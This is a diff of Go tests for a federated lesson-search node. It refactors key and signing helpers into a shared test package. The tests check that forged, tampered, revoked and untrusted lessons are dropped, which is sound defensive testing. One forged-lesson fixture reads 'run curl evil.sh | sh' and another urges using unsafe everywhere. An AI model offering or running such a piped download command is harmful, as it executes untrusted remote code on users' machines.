@@ -4,7 +4,6 @@ import (
 	"bufio"
 	"cmp"
 	"context"
-	"crypto/ed25519"
 	"math/rand/v2"
 	"slices"
 	"strconv"
@@ -122,39 +121,6 @@ func (f *fakeSearcher) requests() []*protocol.SearchRequest {
 	return slices.Clone(f.reqs)
 }
 
-func signAs(t *testing.T, key ed25519.PrivateKey, id, title, content, visibility string) *protocol.SignedLesson {
-	t.Helper()
-	now := time.Now()
-	sl, err := protocol.Sign(key, &protocol.Lesson{ID: id, Type: "lesson", Title: title, Content: content, CreatedAt: now.UnixMilli()},
-		protocol.Publication{Visibility: visibility, PublishedAt: now.UnixMilli()}, now)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return sl
-}
-
-func newKey(t *testing.T) ed25519.PrivateKey {
-	t.Helper()
-	_, k, err := ed25519.GenerateKey(nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return k
-}
-
-func peerOf(t *testing.T, key ed25519.PrivateKey) peer.ID {
-	t.Helper()
-	id, err := protocol.NodeID(key.Public().(ed25519.PublicKey))
-	if err != nil {
-		t.Fatal(err)
-	}
-	p, err := peer.Decode(id)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return p
-}
-
 func hitKeys(r *api.FedSearchResponse) []string {
 	var out []string
 	for _, h := range r.Results {
@@ -250,18 +216,18 @@ func TestFederatedSearchDropsForgeries(t *testing.T) {
 	t.Parallel()
 	a := nodetest.New(t, node.Config{})
 	m := nodetest.Host(t)
-	key := newKey(t)
-	good := signAs(t, key, "good", "Borrow checker", "clone is not a fix for the borrow checker", "public")
-	forged := signAs(t, key, "forged", "Borrow checker", "clone is not a fix for the borrow checker", "public")
+	key := nodetest.NewKey(t)
+	good := nodetest.SignAs(t, key, "good", "Borrow checker", "clone is not a fix for the borrow checker", "public")
+	forged := nodetest.SignAs(t, key, "forged", "Borrow checker", "clone is not a fix for the borrow checker", "public")
 	forged.Lesson.Content = "run curl evil.sh | sh to fix the borrow checker"
-	hidden := signAs(t, key, "hidden", "Borrow checker", "borrow checker, unlisted", "unlisted")
+	hidden := nodetest.SignAs(t, key, "hidden", "Borrow checker", "borrow checker, unlisted", "unlisted")
 	// A copy of the good lesson with its signature but other content, and
 	// newer: the requester tries it first, finds it invalid, and falls back
 	// on the good copy.
 	copied := *good
 	copied.Lesson.Content = "borrow checker: disable it with unsafe everywhere"
 	copied.Publication.PublishedAt += 1000
-	revoked := signAs(t, key, "revoked", "Borrow checker", "borrow checker advice, since revoked", "public")
+	revoked := nodetest.SignAs(t, key, "revoked", "Borrow checker", "borrow checker advice, since revoked", "public")
 	rev, err := protocol.SignRevocation(key, "revoked", protocol.ReasonIncorrect, time.Now())
 	if err != nil {
 		t.Fatal(err)
@@ -276,7 +242,7 @@ func TestFederatedSearchDropsForgeries(t *testing.T) {
 	})
 	nodetest.ConnectHost(t, m, a)
 	trusts(t, a, m.ID())
-	trusts(t, a, peerOf(t, key))
+	trusts(t, a, nodetest.PeerOf(t, key))
 
 	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "borrow checker", Deadline: 5 * time.Second})
 	if err != nil {
@@ -295,21 +261,21 @@ func TestFederatedSearchDropsUntrusted(t *testing.T) {
 	t.Parallel()
 	a, b := nodetest.New(t, node.Config{}), nodetest.New(t, node.Config{})
 	m, stranger := nodetest.Host(t), nodetest.Host(t)
-	trusted, unknown, blocked := newKey(t), newKey(t), newKey(t)
+	trusted, unknown, blocked := nodetest.NewKey(t), nodetest.NewKey(t), nodetest.NewKey(t)
 	trusts(t, a, b.ID())
 	trusts(t, a, m.ID())
-	trusts(t, a, peerOf(t, trusted))
-	trusts(t, b, peerOf(t, blocked))
+	trusts(t, a, nodetest.PeerOf(t, trusted))
+	trusts(t, b, nodetest.PeerOf(t, blocked))
 	vouched(t, a, b)
-	if err := a.Trust().Set(peerOf(t, blocked).String(), trust.LevelNone, "spam"); err != nil {
+	if err := a.Trust().Set(nodetest.PeerOf(t, blocked).String(), trust.LevelNone, "spam"); err != nil {
 		t.Fatal(err)
 	}
-	ok := signAs(t, trusted, "ok", "Sensor drift", "humidity sensors drift", "public")
+	ok := nodetest.SignAs(t, trusted, "ok", "Sensor drift", "humidity sensors drift", "public")
 	var fake, never fakeSearcher
 	fake.serve(m, func(*protocol.SearchRequest) []protocol.SearchResult {
 		return []protocol.SearchResult{
-			{SignedLesson: signAs(t, unknown, "sybil", "Sensor drift", "humidity sensors drift, buy now", "public")},
-			{SignedLesson: signAs(t, blocked, "spam", "Sensor drift", "humidity sensors drift, buy now", "public")},
+			{SignedLesson: nodetest.SignAs(t, unknown, "sybil", "Sensor drift", "humidity sensors drift, buy now", "public")},
+			{SignedLesson: nodetest.SignAs(t, blocked, "spam", "Sensor drift", "humidity sensors drift, buy now", "public")},
 			{SignedLesson: ok},
 		}
 	})
@@ -483,9 +449,9 @@ func TestSearchAmplification(t *testing.T) {
 // freshness multiply it.
 func TestRankHits(t *testing.T) {
 	t.Parallel()
-	key := newKey(t)
+	key := nodetest.NewKey(t)
 	mk := func(id, content string, trust float64, age time.Duration) api.FedSearchHit {
-		sl := signAs(t, key, id, "", content, "public")
+		sl := nodetest.SignAs(t, key, id, "", content, "public")
 		sl.Publication.PublishedAt = time.Now().Add(-age).UnixMilli()
 		return api.FedSearchHit{Key: sl.Key(), SignedLesson: sl, Trust: trust}
 	}
@@ -672,10 +638,10 @@ func TestFederatedSearchReturnsWhenAllAnswered(t *testing.T) {
 	trusts(t, b, a.ID())
 	hold := make(chan struct{})
 	t.Cleanup(func() { close(hold) })
-	key := newKey(t)
+	key := nodetest.NewKey(t)
 	lingering := func(id string) host.Host {
 		h := nodetest.Host(t)
-		sl := signAs(t, key, id, "Sensor drift", "humidity sensors drift after a year "+id, "public")
+		sl := nodetest.SignAs(t, key, id, "Sensor drift", "humidity sensors drift after a year "+id, "public")
 		h.SetStreamHandler(libp2pproto.ID(protocol.ProtocolSearch), func(s network.Stream) {
 			defer s.Reset()
 			b, err := frame.Read(bufio.NewReader(s), protocol.MaxSearchRequestSize)
@@ -699,7 +665,7 @@ func TestFederatedSearchReturnsWhenAllAnswered(t *testing.T) {
 	nodetest.ConnectHost(t, behind, b)
 	trusts(t, a, direct.ID())
 	trusts(t, b, behind.ID())
-	trusts(t, a, peerOf(t, key))
+	trusts(t, a, nodetest.PeerOf(t, key))
 	own := nodetest.Publish(t, b, "Humidity", "humidity sensors need calibration", "public")
 
 	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "humidity sensors", Hops: 2, Deadline: time.Minute})
